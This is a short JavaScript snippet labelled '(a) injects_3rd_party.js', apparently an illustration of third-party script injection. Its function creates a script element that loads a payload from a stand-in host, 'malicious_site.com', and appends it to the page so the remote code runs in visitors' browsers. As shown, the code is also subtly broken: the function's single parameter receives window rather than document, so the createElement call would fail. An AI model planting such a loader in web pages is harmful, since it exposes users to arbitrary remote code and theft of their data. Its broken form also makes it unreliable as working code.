// (a) injects_3rd_party.js
(function (e) {
    var site = "//malicious_site.com";
    var script = e.createElement("script");
    script.src = "https:" + site + "/js/malicious_3rd_party_payload.js";
    (e.head || e.body).appendChild(script)
}) (window, document);
